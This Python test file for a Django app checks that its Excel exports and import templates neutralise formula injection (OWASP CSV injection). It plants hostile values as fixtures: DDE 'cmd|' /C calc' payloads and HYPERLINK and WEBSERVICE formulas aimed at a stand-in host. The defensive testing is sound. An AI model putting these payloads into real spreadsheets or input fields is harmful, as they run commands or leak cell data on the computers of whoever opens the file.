"""Issue 16 item 5: text from users never becomes a formula in any workbook the app writes (OWASP CSV injection)."""

import ast
import datetime
import io
import uuid
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from zhibu.core.derived import changes_told_at_once
from zhibu.core.spreadsheets import neutralise, safe_value, sheet_title
from zhibu.inspections.models import InspectionPlan, RectificationItem
from zhibu.organizations.models import OrganizationKind
from zhibu.organizations.services import create_unit
from zhibu.ratings import services as rating_services
from zhibu.standards.models import Verdict, VerdictStatus
from zhibu.testing import SETUP, make_member, make_org

HOSTILE = '=HYPERLINK("http://x","y")'
TODAY = timezone.localdate()
LAST_YEAR = TODAY.year - 1


def cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_inert(content: bytes, *, shows: tuple[str, ...] = ()) -> list[str]:
    """No cell is a formula or an error value, no text could turn into one on edit, and the given texts are there."""
    texts = []
    for cell in cells(content):
        assert cell.data_type not in ("f", "e"), (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s" and not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
            texts.append(cell.value)
    joined = "\n".join(texts)
    for wanted in shows:
        assert "'" + wanted in joined, wanted
    return texts


@pytest.fixture
def hostile(tree, personas, client_as):
    """Every kind of user text the exports carry, each starting with a formula trigger."""
    # The verdict below replaces what the refresh judged, so the refresh runs now, not when the fixtures are built.
    with changes_told_at_once():
        branch = make_org(tree.a, '=HYPERLINK("http://x","组织")', OrganizationKind.BRANCH)
        member = make_member(
            tree.a1, name=HOSTILE, employer="+cmd|' /C calc'!A0", note="@SUM(1+1)*cmd|' /C calc'!A0", sponsors="-2+3"
        )
        create_unit(actor=SETUP, owner=tree.a, name="=1+1单位")
        # The live refresh may already have judged this March (with the clock at its end): the hostile text replaces it.
        Verdict.objects.update_or_create(
            rule_id="MTG-04",
            organization=branch,
            period_key=f"{TODAY.year}-03",
            defaults={
                "period_start": datetime.date(TODAY.year, 3, 1),
                "period_end": datetime.date(TODAY.year, 3, 31),
                "status": VerdictStatus.MISSED,
                "explanation": '=WEBSERVICE("http://x/"&A1)',
                "computed_at": timezone.now(),
            },
        )
        admin = client_as(personas["工委管理员"])
        admin.post(
            "/inspections/new/",
            {
                "organization": tree.gongwei.pk,
                "scope": tree.gongwei.pk,
                "title": "=1+2督查",
                "kind": "regular",
                "period_start": f"{TODAY.year}-01-01",
                "period_end": f"{TODAY.year}-09-30",
                "inspectors": [personas["工委管理员"].pk],
                "submission_key": uuid.uuid4().hex,
            },
        )
        plan = InspectionPlan.objects.get()
        target = plan.targets.get(organization=tree.a1)
        admin.post(
            f"/inspections/{plan.pk}/targets/{target.pk}/",
            {
                "found_on": TODAY.isoformat(),
                "description": '=HYPERLINK("http://x","问题")',
                "rule_id": "MTG-04",
                "task_1": "@cmd|' /C calc'!A0",
                "owner_1": member.pk,
                "deadline_1": (TODAY + datetime.timedelta(days=10)).isoformat(),
                "evidence_1": "佐证",
                "submission_key": uuid.uuid4().hex,
            },
        )
        assert RectificationItem.objects.count() == 1
        sheet = rating_services.create_sheet(actor=personas["工委管理员"], organization=tree.gongwei, year=LAST_YEAR)
        return {"branch": branch, "member": member, "sheet": sheet}


def test_member_audit_and_list_exports_keep_user_text_as_text(tree, personas, client_as, hostile):
    admin = client_as(personas["工委管理员"])
    exports = {
        "/members/export/": (HOSTILE,),
        "/audit/export/": (HOSTILE,),  # the member.created row names the member
        "/organizations/export/": ('=HYPERLINK("http://x","组织")',),
        "/organizations/units/export/": ("=1+1单位",),
        "/inspections/items/?export=1": ("=1+2督查", '=HYPERLINK("http://x","问题")', "@cmd|", HOSTILE),
        f"/ratings/{hostile['sheet'].pk}/?export=1": ('=HYPERLINK("http://x","组织")',),
    }
    year = TODAY.year
    for export in ("org", "rule", "month", "heat"):
        exports[f"/standards/?organization={tree.gongwei.pk}&year={year}&export={export}"] = ()
    exports[f"/standards/?organization={tree.gongwei.pk}&year={year}&export=missed"] = (
        '=HYPERLINK("http://x","组织")',
        '=WEBSERVICE("http://x/"&A1)',
    )
    for url, shows in exports.items():
        response = admin.get(url)
        assert response.status_code == 200 and response["Content-Type"].endswith("spreadsheetml.sheet"), url
        assert_inert(response.content, shows=shows)


def test_every_ledger_workbook_keeps_user_text_as_text(tree, personas, client_as, hostile):
    from zhibu.ledgers.registry import LEDGERS

    admin = client_as(personas["党委管理员A"])
    roster = None
    for code, ledger in LEDGERS.items():
        organization = tree.a if ledger.for_committees else tree.a1
        response = admin.get(f"/ledgers/{code}/?organization={organization.pk}&year={TODAY.year}&month=3&quarter=1")
        assert response.status_code == 200, code
        response = admin.get(
            f"/ledgers/{code}/?organization={organization.pk}&year={TODAY.year}&month=3&quarter=1&format=xlsx"
        )
        assert response.status_code == 200, code
        texts = assert_inert(response.content)
        if code == "roster":
            roster = texts
    assert roster is not None and "'" + HOSTILE in roster  # the member's row in the roster


def test_the_import_template_is_inert(personas, client_as):
    response = client_as(personas["支部书记A1"]).get("/members/import/template/")
    assert response.status_code == 200
    assert_inert(response.content)


def test_the_dues_import_template_is_inert(personas, client_as):
    response = client_as(personas["支部书记A1"]).get("/dues/import/template/")
    assert response.status_code == 200
    assert_inert(response.content)


def test_the_recruitment_import_template_is_inert(personas, client_as):
    response = client_as(personas["支部书记A1"]).get("/recruitment/import/template/")
    assert response.status_code == 200
    assert_inert(response.content)


def test_the_quiz_import_template_is_inert(personas, client_as):
    response = client_as(personas["支部书记A1"]).get("/quizzes/banks/template/")
    assert response.status_code == 200
    assert_inert(response.content)


def test_the_external_training_import_template_is_inert(personas, client_as):
    response = client_as(personas["支部书记A1"]).get("/training/external/import/template/")
    assert response.status_code == 200
    assert_inert(response.content)


def test_awkward_names_never_break_an_export(tree, personas, client_as):
    """Control characters pasted from Word, and sheet-title characters in a name, used to be a server error."""
    make_member(tree.a1, name="张\x0b明", note="a\x1fb\x08c")
    branch = make_org(tree.a, "支部[一]/二:三?*", OrganizationKind.BRANCH)
    admin = client_as(personas["工委管理员"])
    members = admin.get("/members/export/")
    assert members.status_code == 200
    assert "张明" in assert_inert(members.content)
    assert admin.get("/organizations/export/").status_code == 200
    ledger = client_as(personas["党委管理员A"]).get(f"/ledgers/roster/?organization={branch.pk}&format=xlsx")
    assert ledger.status_code == 200
    title = load_workbook(io.BytesIO(ledger.content)).active.title
    assert not set(title) & set("[]/:?*\\")


def test_safe_value_keeps_numbers_and_dates_typed():
    assert safe_value(12) == 12 and safe_value(1.5) == 1.5 and safe_value(datetime.date(2026, 1, 2)).year == 2026
    assert safe_value(True) == "是" and safe_value(None) is None
    assert neutralise("-") == "'-" and neutralise("正常文本") == "正常文本" and neutralise("\tx") == "'\tx"
    assert neutralise("#N/A") == "#N/A"  # written with the string type: an error code only as typed text
    assert sheet_title("a/b[c]") == "a_b_c_" and sheet_title("") == "Sheet1"


WRITERS = {
    "zhibu/core/tables.py",
    "zhibu/ledgers/render_xlsx.py",
    "zhibu/members/importing.py",
    "zhibu/core/importing.py",
    "zhibu/quizzes/importing.py",
    "zhibu/quizzes/views.py",
}


def test_every_module_that_writes_a_workbook_is_covered_here():
    """A new xlsx writer must use zhibu.core.spreadsheets and be added to the export tests above."""
    root = Path(__file__).resolve().parents[3]
    found = set()
    for path in (root / "zhibu").rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("openpyxl"):
                if any(alias.name in ("Workbook", "WriteOnlyCell") for alias in node.names):
                    found.add(path.relative_to(root).as_posix())
    assert found == WRITERS
    for name in WRITERS:
        assert "zhibu.core.spreadsheets import" in (root / name).read_text(encoding="utf-8"), name
